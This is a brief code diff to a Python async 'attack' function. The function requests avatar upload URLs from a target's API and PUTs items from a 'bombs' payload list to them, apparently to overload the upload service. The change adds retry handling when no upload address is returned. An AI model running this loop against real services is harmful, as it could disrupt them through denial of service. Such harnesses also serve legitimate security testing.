@@ -48,6 +48,11 @@ async def attack(target: Target) -> str:
                 address = await http.post(
                     "/api/avatars/key_upload", json={"extension": "jpg"}, headers=token
                 )
+                if address.status_code != 200:
+                    seen = f"no address, {address.status_code},"
+                    answers[seen] = answers.get(seen, 0) + 1
+                    await asyncio.sleep(0.2)
+                    continue
                 url = httpx.URL(address.json()["url"]).path
                 try:
                     put = http.put(url, content=bombs[number % len(bombs)])
